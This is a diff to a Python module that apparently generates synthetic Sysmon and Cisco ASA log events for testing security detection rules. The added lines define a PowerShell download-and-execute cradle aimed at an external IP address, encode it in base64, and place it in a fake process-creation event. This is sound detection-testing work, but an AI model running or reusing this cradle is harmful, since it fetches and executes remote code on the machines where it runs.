@@ -6,6 +6,7 @@ The forms are those of public recordings and of Microsoft's documentation; nothi
 from __future__ import annotations
 
 import json
+from base64 import b64encode
 from typing import Any, NamedTuple
 from xml.sax.saxutils import escape
 
@@ -20,6 +21,7 @@ Record = dict[str, Any]
 MORNING = clock.at("09:00:00")
 SYSTEM32 = r"C:\Windows\System32"
 USER = "anna@froth.ly"
+DOWNLOAD = "IEX (New-Object Net.WebClient).DownloadString('http://45.77.53.176/a')"
 
 
 def record(source: str, sourcetype: str, raw: str, after: float = 0) -> Record:
@@ -54,6 +56,10 @@ def script(text: str) -> Record:
 def call(after: float, image: str = r"C:\Users\anna\AppData\agent.exe") -> Record:
     connection = {"Image": image, "ProcessGuid": "{1}", "DestinationIp": "45.77.53.176"}
     return sysmon(3, after, **connection, DestinationPort="443")
+
+
+def encoded(command: str) -> str:
+    return b64encode(command.encode("utf-16-le")).decode("ascii")
 
 
 def audit(operation: str, **fields: object) -> Record:
@@ -226,6 +232,16 @@ ATTACKS = {
         "Network - Beacons of a process",
         [call(60 * number + (number >= 30) * 7200) for number in range(60)],
         "60 calls, 98 % of them 60.0 s after the last",
+    ),
+    "address of a command before its port": Form(
+        "Network - Indicator across hosts",
+        [
+            sysmon(1, Image="powershell.exe", CommandLine=f"powershell -enc {encoded(DOWNLOAD)}"),
+            record(
+                "udp:514", "cisco:asa", "Deny tcp src outside:10.0.0.1/80 dst (45.77.53.176/443)"
+            ),
+        ],
+        "1 events of cisco:asa",
     ),
     "shell by PHP": Form(
         "Linux - Reverse shell",
